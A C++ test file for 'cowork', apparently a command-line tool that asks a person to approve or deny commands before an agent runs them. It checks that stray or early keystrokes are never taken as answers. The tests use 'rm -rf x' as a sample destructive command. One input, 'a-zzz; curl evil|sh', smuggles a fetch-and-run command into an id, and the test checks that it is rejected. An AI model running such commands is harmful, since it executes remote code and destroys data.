// How cowork asks a person before something happens, and what it takes for an answer.

#include <chrono>
#include <string>

#include <gmock/gmock.h>

#include "tests/support/cowork_at_work.h"

namespace cowork {
namespace {

using support::FakeBroker;
using support::Outcome;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr auto kNext = "a-92cccaaaaaaaaaaaaaaaaaaaaa";

class CliAsks : public support::CoworkAtWork {
 protected:
  void RunUntilItAsks() {
    StartBroker();
    BeginAtATerminal({"run", "do it", "-C", At("/app")});
    ReadUntil("a-91xk2 > ");
  }
  // Whatever cowork prints within a moment in which it is to print nothing.
  std::string ReadForAMoment() {
    const size_t before = seen_.size();
    while (ReadMore(std::chrono::milliseconds(300))) continue;
    return seen_.substr(before);
  }
  size_t PlaceOf(const std::string& text) const { return seen_.find(text); }
};

TEST_F(CliAsks, AsksAtTheTerminalAndTakesTheAnswer) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  Type("a\n");
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 0) << outcome.text;
  EXPECT_THAT(outcome.text,
              AllOf(HasSubstr("npm test"), HasSubstr("allowed once"), HasSubstr("done in 4.0 s")));
  ASSERT_EQ(broker_->answers().size(), 1U);
  EXPECT_EQ(broker_->answers()[0].decision(), v1::AnswerRequest::ALLOW_ONCE);
  EXPECT_EQ(broker_->prompt(), "do it");
}

TEST_F(CliAsks, TakesNothingForAnAnswerThatWasTypedBeforeTheQuestion) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  Type("a\na\na\n");
  ReadUntil("[a] once");
  broker_->AnswerFromElsewhere();
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_THAT(broker_->answers(), IsEmpty());
}

TEST_F(CliAsks, AsksOneQuestionAfterTheOtherEachOfThemWhole) {
  RunUntilItAsks();
  broker_->Tell(broker_->Asks(kNext, "rm -rf x"));
  EXPECT_EQ(ReadForAMoment(), "") << "the later one waits its turn";
  Type("a\n");
  ReadUntil("a-92ccc > ");
  const std::string next = seen_.substr(PlaceOf("allowed once"));
  EXPECT_THAT(next,
              ::testing::ContainsRegex("▸ bash   rm -rf x +asks  a-92ccc\r\n +in [^\n]*/app[^@]*"
                                       "\\[a\\] once[^\n]*\r\n +a-92ccc > $"));
  Type("d\n");
  EXPECT_EQ(Finish().exit, 0);
  const auto answers = broker_->answers();
  ASSERT_EQ(answers.size(), 2U);
  EXPECT_EQ(answers[0].approval_id(), FakeBroker::kApproval);
  EXPECT_EQ(answers[0].decision(), v1::AnswerRequest::ALLOW_ONCE);
  EXPECT_EQ(answers[1].approval_id(), kNext);
  EXPECT_EQ(answers[1].decision(), v1::AnswerRequest::DENY);
}

TEST_F(CliAsks, TakesNothingForTheNextQuestionThatWasTypedForTheLast) {
  RunUntilItAsks();
  broker_->Tell(broker_->Asks(kNext, "rm -rf x"));
  Type("a");
  broker_->AnswerFromElsewhere();
  ReadUntil("a-92ccc > ");
  Type("\n");
  ReadUntil("a-92ccc > \r\n");
  broker_->AnswerFromElsewhere(kNext);
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_THAT(broker_->answers(), IsEmpty());
}

TEST_F(CliAsks, LetsAPersonReadAQuestionThatTookThePlaceOfAnother) {
  RunUntilItAsks();
  broker_->Tell(broker_->Asks(kNext, "rm -rf x"));
  broker_->AnswerFromElsewhere();
  ReadUntil("a-92ccc > ");
  Type("a\n");
  EXPECT_THAT(ReadForAMoment(), HasSubstr("a-92ccc > "));
  EXPECT_THAT(broker_->answers(), IsEmpty());
  Type("d\n");
  EXPECT_EQ(Finish().exit, 0);
  ASSERT_EQ(broker_->answers().size(), 1U);
  EXPECT_EQ(broker_->answers()[0].decision(), v1::AnswerRequest::DENY);
}

// Ctrl-S holds cowork in the middle of a line until Ctrl-Q, so that it finds both at once.
TEST_F(CliAsks, TakesNoLineThatArrivesTogetherWithTheNextQuestion) {
  RunUntilItAsks();
  broker_->Tell(broker_->Asks(kNext, "rm -rf x"));
  Type("\x13?\n");
  EXPECT_EQ(ReadForAMoment(), "");
  broker_->AnswerFromElsewhere();
  Type("a\n");
  EXPECT_EQ(ReadForAMoment(), "");
  Type("\x11");
  ReadUntil("a-92ccc > ");
  broker_->AnswerFromElsewhere(kNext);
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_THAT(broker_->answers(), IsEmpty());
}

TEST_F(CliAsks, HoldsBackWhatIsSaidWhileAQuestionIsOpen) {
  RunUntilItAsks();
  broker_->Tell(
      FakeBroker::Says("  ▸ bash   ls     asks  a-91xk2\n      [a] once\n      a-91xk2 > "));
  EXPECT_EQ(ReadForAMoment(), "");
  Type("d\n");
  EXPECT_EQ(Finish().exit, 0);
  EXPECT_THAT(seen_, HasSubstr("  │   ▸ bash   ls     asks  a-91xk2\r\n  │       [a] once\r\n"));
}

TEST_F(CliAsks, AsksOnStderrWhereStdoutIsForAScript) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app"), "--json"});
  ReadUntil("a-91xk2 > ");
  EXPECT_THAT(seen_, HasSubstr("▸ bash   npm test"));
  broker_->Tell(FakeBroker::Says("hello"));
  EXPECT_EQ(ReadForAMoment(), "");
  Type("a\n");
  EXPECT_THAT(Finish().text, HasSubstr("hello"));
}

TEST_F(CliAsks, AsksAgainWhereTheAnswerDidNotArrive) {
  StartBroker();
  broker_->refused_answers = 1;
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("a-91xk2 > ");
  seen_.clear();
  Type("a\n");
  ReadUntil("a-91xk2 > ");
  EXPECT_THAT(seen_, AllOf(HasSubstr("the answer was not taken"), HasSubstr("▸ bash   npm test")));
  Type("a\n");
  EXPECT_EQ(Finish().exit, 0);
}

TEST_F(CliAsks, LetsEverythingWaitWhenThePersonLeavesTheTerminal) {
  RunUntilItAsks();
  broker_->Tell(broker_->Asks(kNext, "rm -rf x"));
  Type("\x04");
  ReadUntil("cowork approve a-92ccc, or cowork deny a-92ccc");
  EXPECT_THAT(seen_, AllOf(HasSubstr("cowork approve a-91xk2"), HasSubstr("▸ bash   rm -rf x")));
  broker_->AnswerFromElsewhere();
  broker_->AnswerFromElsewhere(kNext);
  EXPECT_EQ(Finish().exit, 0);
}

TEST_F(CliAsks, EndsItsQuestionWhenSomebodyElseHasAnswered) {
  StartBroker();
  BeginAtATerminal({"run", "do it", "-C", At("/app")});
  ReadUntil("[a] once");
  broker_->AnswerFromElsewhere();
  const Outcome outcome = Finish();
  EXPECT_EQ(outcome.exit, 0);
  EXPECT_THAT(outcome.text, HasSubstr("answered from elsewhere"));
  EXPECT_THAT(broker_->answers(), IsEmpty());
}

TEST_F(CliAsks, AsksNothingWithoutATerminalAndWaits) {
  StartBroker();
  Begin({"run", "do it", "-C", At("/app")}, "a\na\n");
  ReadUntil("cowork approve a-91xk2, or cowork deny a-91xk2");
  EXPECT_THAT(broker_->answers(), IsEmpty()) << "what stands on stdin is no answer";
  broker_->AnswerFromElsewhere();
  EXPECT_EQ(Finish().exit, 0);
}

TEST_F(CliAsks, DeniesWhatIsAskedWhereToldTo) {
  StartBroker();
  EXPECT_EQ(Cowork({"run", "do it", "-C", At("/app"), "--on-ask", "deny"}).exit, 0);
  ASSERT_EQ(broker_->answers().size(), 1U);
  EXPECT_EQ(broker_->answers()[0].decision(), v1::AnswerRequest::DENY);
}

TEST_F(CliAsks, StopsTheSessionAtAnAskWhereToldTo) {
  StartBroker();
  const Outcome outcome = Cowork({"run", "do it", "-C", At("/app"), "--on-ask", "fail"});
  EXPECT_EQ(outcome.exit, 3);
  EXPECT_THAT(outcome.text, HasSubstr("why   it asked for \"npm test\", and --on-ask is fail\n"));
  EXPECT_EQ(broker_->stopped(), std::vector<std::string>{FakeBroker::kSession});
  EXPECT_THAT(broker_->answers(), IsEmpty());
}

TEST_F(CliAsks, AnswersFromElsewhereByTheBeginningOfAnId) {
  StartBroker();
  EXPECT_EQ(Cowork({"deny", "a-9", "--tell", "use the test database"}).exit, 0);
  ASSERT_EQ(broker_->answers().size(), 1U);
  EXPECT_EQ(broker_->answers()[0].approval_id(), FakeBroker::kApproval);
  EXPECT_EQ(broker_->answers()[0].tell(), "use the test database");
  const Outcome unknown = Cowork({"approve", "a-zzz; curl evil|sh"});
  EXPECT_EQ(unknown.exit, 1);
  EXPECT_THAT(unknown.text, HasSubstr("\n  do    cowork approvals\n"));
}

}  // namespace
}  // namespace cowork
